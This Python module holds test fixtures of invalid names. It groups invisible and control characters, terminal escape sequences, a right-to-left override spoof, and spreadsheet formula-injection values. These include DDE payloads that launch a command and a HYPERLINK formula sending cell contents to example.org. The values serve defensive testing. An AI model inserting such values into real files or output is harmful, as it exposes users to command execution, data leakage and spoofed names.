"""Names that nobody should have, by what is wrong with them."""

from __future__ import annotations

HIDDEN = {
    "escape sequence": "\x1b[31mred",
    "window title": "\x1b]0;owned\x07",
    "8-bit escape": "a\x9b2J",
    "carriage return": "ann\rbob",
    "line feed": "ann\nbob",
    "CR LF at the end": "ann\r\n",
    "vertical tab": "a\x0bb",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "null": "a\0b",
    "backspace": "ab\bc",
    "delete": "a\x7fb",
    "tab": "a\tb",
    "right-to-left override": "exe.\u202egnp",
    "isolate": "a\u2067b\u2069",
    "left-to-right mark": "a\u200eb",
    "zero-width space": "a\u200bb",
    "zero-width joiner": "a\u200db",
    "word joiner": "a\u2060b",
    "soft hyphen": "a\u00adb",
    "byte order mark": "\ufeffann",
    "tag": "a\U000e0041",
    "grapheme joiner": "a\u034fb",
    "Hangul filler": "\u3164",
    "variation selector": "a\ufe0f",
    "Braille blank": "a\u2800",
    "no-break space": "a\u00a0b",
    "wide space": "\u3000a",
    "surrogate": "a\udc80",
    "private use": "a\ue000",
    "unassigned": "a\U000e0fff",
    "noncharacter": "a\ufffe",
}
"""Letters that can't be seen, or that a terminal, a log or a page would act on."""

EMPTY = {"nothing": "", "a space": " ", "spaces": "    "}

FORMULAS = {
    "sum": "=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org?"&A1,"look")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "wide equals": "＝1+1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM(1)",
    "small equals": "﹦1+1",
    "small at": "﹫SUM(1)",
    "superscript plus": "⁺1",
    "two equals in one letter": "⩵1",
    "minus sign": "−1",
}
"""What a spreadsheet would run; as class names they are harmless."""

QUOTED = {
    "apostrophe": "'=1+1",
    "two apostrophes": "''=1",
    "quotation mark": '"=1+1"',
    "wide apostrophe": "＇=1",
}
SPACED = {"before a formula": " =1+1", "before": "  ann", "after": "ann "}
MARKUP = ("[red]x[/red]", "[link=https://example.org]x[/link]", "[/]", ":heart:", "<b>x</b>")
"""What some programs act on, and ours do not: these are names as good as others."""

NFC, NFD = "Zo\u00e9", "Zoe\u0301"
